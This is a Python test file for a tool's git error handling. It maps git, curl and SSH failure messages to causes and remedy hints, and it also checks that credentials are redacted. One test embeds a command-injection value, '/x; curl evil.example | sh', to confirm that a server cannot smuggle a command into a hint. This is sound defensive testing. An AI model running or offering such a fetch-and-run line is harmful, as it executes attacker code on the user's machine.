"""What git says when it fails, and what people read: the sentences are git's, curl's and OpenSSH's own."""

from __future__ import annotations

import errno
import re
from datetime import timedelta
from pathlib import Path

import pytest

from ronron.adapters.git_source.address import parse
from ronron.adapters.git_source.commands import GitFailedError, GitTimeoutError
from ronron.adapters.git_source.errors import LONGEST, RULES, Errors
from ronron.adapters.git_source.locks import LockBusyError
from ronron.core.errors import AuthenticationError, RevisionNotFoundError, SourceError, SourceUnavailableError

STATE = Path("/var/lib/ronron")
WEB = "https://forge.example/ours.git"
SSH = "ssh://git@forge.example:2222/ours.git"
HERE = "/srv/git/ours.git"
DAEMON = "git://forge.example/ours.git"
ACCESS = "fatal: unable to access 'https://forge.example/ours.git/': "
READ = (
    "fatal: Could not read from remote repository.\n\nPlease make sure you have the correct access rights\n"
)

ROWS = [
    # address, what git says, kind, what it means, what to do
    (WEB, "fatal: write error: No space left on device", SourceError, "the disk is full", "`df -h /var/lib"),
    (
        HERE,
        "fatal: detected dubious ownership in repository at '/srv/git/ours.git/.git'\n"
        "To add an exception for this directory, call:\n\n"
        "\tgit config --global --add safe.directory /srv/git/ours.git/.git\n" + READ,
        AuthenticationError,
        "the repository belongs to another user of this machine",
        "`git config --global --add safe.directory /srv/git/ours.git/.git`",
    ),
    (
        SSH,
        "No ED25519 host key is known for [forge.example]:2222 and you have requested strict checking.\n"
        "Host key verification failed.\n" + READ,
        AuthenticationError,
        "the server's ssh host key is unknown or has changed",
        "`ssh-keyscan -p 2222 forge.example >> ~/.ssh/known_hosts`",
    ),
    (
        "git@forge.example:ours.git",
        "Host key verification failed.\n" + READ,
        AuthenticationError,
        "the server's ssh host key is unknown or has changed",
        "`ssh-keyscan forge.example >> ~/.ssh/known_hosts`",
    ),
    (
        SSH,
        "git@forge.example: Permission denied (publickey,password).\n" + READ,
        AuthenticationError,
        "permission denied: the server does not accept our ssh key",
        "`ssh -T -p 2222 git@forge.example` tests it",
    ),
    (
        WEB,
        "fatal: could not read Username for 'https://forge.example': terminal prompts disabled",
        AuthenticationError,
        "permission denied: credentials are missing or wrong",
        "`https://USER:TOKEN@forge.example/PATH`",
    ),
    (
        WEB,
        "remote: HTTP Basic: Access denied\nfatal: Authentication failed for 'https://forge.example/ours.git/'",
        AuthenticationError,
        "permission denied: credentials are missing or wrong (HTTP Basic: Access denied; Authen",
        "use an address with a token",
    ),
    (
        WEB,
        ACCESS + "The requested URL returned error: 403",
        AuthenticationError,
        "permission denied (403)",
        "use an address with a token that may read it",
    ),
    (
        HERE,
        "fatal: could not change directory to '/srv/git/ours.git': Permission denied",
        AuthenticationError,
        "permission denied",
        "`ls -ld /srv/git/ours.git`",
    ),
    (
        WEB,
        ACCESS + "The requested URL returned error: 301",
        SourceUnavailableError,
        "the repository has moved, and credentials are not sent to another address",
        "`curl -sI https://forge.example/ours.git`",
    ),
    (
        WEB,
        "fatal: unable to update url base from redirection:\n  asked for: x\n   redirect: y",
        SourceUnavailableError,
        "the repository has moved",
        "use its new address",
    ),
    (
        WEB,
        "remote: The project you were looking for could not be found or you don't have permission.\n"
        "fatal: repository 'https://forge.example/ours.git/' not found",
        SourceUnavailableError,
        "repository not found, or no permission to see it (The project you were looking for could",
        "`git ls-remote https://forge.example/ours.git`",
    ),
    (
        HERE,
        "fatal: '/srv/git/ours.git' does not appear to be a git repository\n" + READ,
        SourceUnavailableError,
        "repository not found",
        "`git ls-remote /srv/git/ours.git`",
    ),
    (
        DAEMON,
        "fatal: remote error: access denied or repository not exported: /ours.git",
        SourceUnavailableError,
        "repository not found, or no permission to see it",
        "`git ls-remote git://forge.example/ours.git`",
    ),
    (
        WEB,
        "fatal: https://forge.example/ours.git/info/refs not valid: is this a git repository?",
        SourceUnavailableError,
        "this is not a git repository",
        "`git ls-remote https://forge.example/ours.git`",
    ),
    (
        WEB,
        "fatal: transport 'ftp' not allowed",
        SourceError,
        "this protocol is not allowed",
        "use https://, ssh:// or a path",
    ),
    (
        WEB,
        ACCESS + "Could not resolve proxy: proxy.example",
        SourceUnavailableError,
        "the proxy refused the connection",
        "`env | grep -i proxy`",
    ),
    (
        WEB,
        ACCESS + "CONNECT tunnel failed, response 407",
        SourceUnavailableError,
        "the proxy refused the connection",
        "`env | grep -i proxy`",
    ),
    (
        WEB,
        ACCESS + "server certificate verification failed. CAfile: none CRLfile: none",
        SourceUnavailableError,
        "this machine does not trust its certificate",
        "GIT_SSL_CAINFO",
    ),
    (
        WEB,
        ACCESS + "SSL certificate problem: self-signed certificate",
        SourceUnavailableError,
        "this machine does not trust its certificate",
        "`curl -v https://forge.example/ours.git`",
    ),
    (
        WEB,
        ACCESS + "Could not resolve host: forge.example",
        SourceUnavailableError,
        "cannot resolve the host",
        "`getent hosts forge.example`",
    ),
    (
        SSH,
        "ssh: Could not resolve hostname forge.example: Temporary failure in name resolution\n" + READ,
        SourceUnavailableError,
        "cannot resolve the host",
        "`getent hosts forge.example`",
    ),
    (
        DAEMON,
        "fatal: unable to connect to forge.example:\nforge.example[0: 192.0.2.1]: errno=Connection refused",
        SourceUnavailableError,
        "cannot connect to the server",
        "`git ls-remote git://forge.example/ours.git`",
    ),
    (
        WEB,
        ACCESS + "Failed to connect to forge.example port 443 after 0 ms: Couldn't connect to server",
        SourceUnavailableError,
        "cannot connect to the server",
        "check that the server runs",
    ),
    (
        WEB,
        ACCESS + "Operation too slow. Less than 1 bytes/sec transferred the last 60 seconds",
        SourceUnavailableError,
        "timed out",
        "check the server and the network",
    ),
    (
        SSH,
        "ssh: connect to host forge.example port 2222: Connection timed out\n" + READ,
        SourceUnavailableError,
        "timed out",
        "check the server and the network",
    ),
    (
        WEB,
        "error: RPC failed; curl 92 HTTP/2 stream 5 was not closed cleanly: CANCEL (err 8)\n"
        "fatal: early EOF\nfatal: fetch-pack: invalid index-pack output",
        SourceUnavailableError,
        "the connection was lost, or the server is busy",
        "wait for the next poll",
    ),
    (
        WEB,
        ACCESS + "The requested URL returned error: 503",
        SourceUnavailableError,
        "the connection was lost, or the server is busy",
        "wait for the next poll",
    ),
    (
        WEB,
        "fatal: remote error: upload-pack: not our ref 0123456789012345678901234567890123456789",
        SourceUnavailableError,
        "a reference moved during the fetch",
        "wait for the next poll",
    ),
    (
        SSH,
        "error: cannot run ssh: No such file or directory\nfatal: unable to fork",
        SourceError,
        "git needs a program that is missing on this machine",
        "`apt-get install git openssh-client`",
    ),
    (
        HERE,
        "error: invalid path '.git/config'",
        SourceError,
        "it contains a file name that git refuses to write",
        "`git mv OLD NEW`",
    ),
    (
        SSH,
        READ,
        SourceUnavailableError,
        "it cannot be read",
        "`git ls-remote ssh://git@forge.example:2222/ours",
    ),
]


@pytest.mark.parametrize(
    ("url", "says", "kind", "means", "remedy"),
    ROWS,
    ids=[f"{index}-{row[3]}" for index, row in enumerate(ROWS)],
)
def test_a_failure_is_told_with_its_cause_and_its_remedy(
    url: str, says: str, kind: type[SourceError], means: str, remedy: str
) -> None:
    error = Errors(parse(url), STATE).of(GitFailedError(128, says), f"poll {url}")
    assert type(error) is kind
    assert error.message.startswith(f"cannot poll {url}: {means}")
    assert remedy in error.hint
    assert "\n" not in error.message
    assert not re.search(r"[{}]", error.hint)


def test_every_rule_is_the_first_to_match_some_row() -> None:
    reached = set()
    for url, says, _, _, _ in ROWS:
        told = Errors(parse(url), STATE).of(GitFailedError(128, says), "look").message
        reached |= {rule.means for rule in RULES if rule.means in told}
    assert reached == {rule.means for rule in RULES}


@pytest.mark.parametrize("host", ["ssl.example", "proxy.example", "certificate.example", "gzip.example"])
@pytest.mark.parametrize("address", ["https://{}/TLS-Timeout/HTML.git", "ssh://git@{}/SSL.git"])
def test_a_name_in_the_address_is_no_cause(host: str, address: str) -> None:
    url = address.format(host)
    says = f"fatal: unable to access '{url}/': Failed to connect to {host} port 443: Connection refused"
    error = Errors(parse(url), STATE).of(GitFailedError(128, says), f"poll {url}")
    assert "cannot connect to the server" in error.message


def test_what_a_server_says_is_shown_but_decides_nothing() -> None:
    says = f"remote: No space left on device\n{ACCESS}The requested URL returned error: 403"
    error = Errors(parse(WEB), STATE).of(GitFailedError(128, says), "look")
    assert isinstance(error, AuthenticationError)
    assert "(No space left on device; unable to access" in error.message


def test_a_server_cannot_put_a_command_into_a_hint() -> None:
    says = "fatal: detected dubious ownership in repository at '/x; curl evil.example | sh'"
    remote = Errors(parse(SSH), STATE).of(GitFailedError(128, says), "look")
    assert "evil" not in remote.hint
    here = Errors(parse(HERE), STATE).of(GitFailedError(128, says), "look")
    assert "safe.directory '/x; curl evil.example | sh'`" in here.hint


@pytest.mark.parametrize(
    "says",
    [
        "fatal: unable to access 'https://tech:s3cret-word@forge.example/ours.git/': Could not resolve host",
        "fatal: bad token s3cret-word",
        "remote: who is s3cret-word?\nfatal: Authentication failed",
        "fatal: header Authorization: Basic dGVjaDpzM2NyZXQtd29yZA== refused",
        "fatal: repository at 's3cret-word' is odd",
    ],
)
def test_no_failure_shows_the_credentials(says: str) -> None:
    address = parse("https://tech:s3cret-word@forge.example/ours.git")
    error = Errors(address, STATE).of(GitFailedError(128, says), f"poll {address.shown}")
    told = f"{error}{error.hint}"
    assert "s3cret" not in told
    assert "dGVjaDpzM2NyZXQtd29yZA" not in told
    assert "[secret]" in told


def test_words_nobody_knows_are_shown_as_they_are() -> None:
    error = Errors(parse(WEB), STATE).of(GitFailedError(1, "fatal: the moon is full.\nhint: wait\n"), "look")
    assert type(error) is SourceError
    assert error.message == "cannot look: the moon is full"
    assert "/var/lib/ronron" in error.hint


def test_silence_is_told_as_such() -> None:
    assert Errors(parse(WEB), STATE).of(GitFailedError(1, ""), "look").message == (
        "cannot look: git gave no reason"
    )


def test_a_flood_of_words_is_cut() -> None:
    flood = "\n".join(f"fatal: line {number}" for number in range(1000))
    message = Errors(parse(WEB), STATE).of(GitFailedError(1, flood), "look").message
    assert len(message) <= LONGEST + len("cannot look: ")
    assert message.endswith("[cut]")


def test_a_deadline_that_passed_is_told_in_seconds() -> None:
    error = Errors(parse(WEB), STATE).of(GitTimeoutError(timedelta(seconds=1.5)), f"poll {WEB}")
    assert type(error) is SourceUnavailableError
    assert error.message == f"cannot poll {WEB}: no answer within 1.5 s"
    assert f"`git ls-remote {WEB}`" in error.hint


def test_a_lock_that_others_hold_is_named() -> None:
    error = Errors(parse(WEB), STATE).of(LockBusyError("/var/lib/ronron/mirror.lock"), "look")
    assert type(error) is SourceUnavailableError
    assert "another process has locked /var/lib/ronron/mirror.lock" in error.message
    assert "`fuser -v /var/lib/ronron/mirror.lock`" in error.hint


@pytest.mark.parametrize(
    ("number", "means", "remedy"),
    [
        (errno.ENOSPC, "the disk is full", "`df -h /var/lib/ronron`"),
        (errno.EDQUOT, "the disk is full", "`df -h /var/lib/ronron`"),
        (errno.EACCES, "Permission denied: /var/lib/ronron/mirrors", "`ls -ld /var/lib/ronron`"),
        (errno.EROFS, "Read-only file system: /var/lib/ronron/mirrors", "`ls -ld /var/lib/ronron`"),
    ],
)
def test_trouble_of_this_machine_is_not_the_repositorys(number: int, means: str, remedy: str) -> None:
    error = Errors(parse(WEB), STATE).of(OSError(number, "x", "/var/lib/ronron/mirrors"), "look")
    assert type(error) is SourceError
    assert error.message.startswith(f"cannot look: {means}")
    assert remedy in error.hint
    assert not error.retryable


def test_an_empty_repository_is_named_with_how_to_fill_it() -> None:
    error = Errors(parse(WEB), STATE).empty()
    assert type(error) is RevisionNotFoundError
    assert error.message == f"cannot follow {WEB}: it is empty"
    assert "`git push origin main`" in error.hint
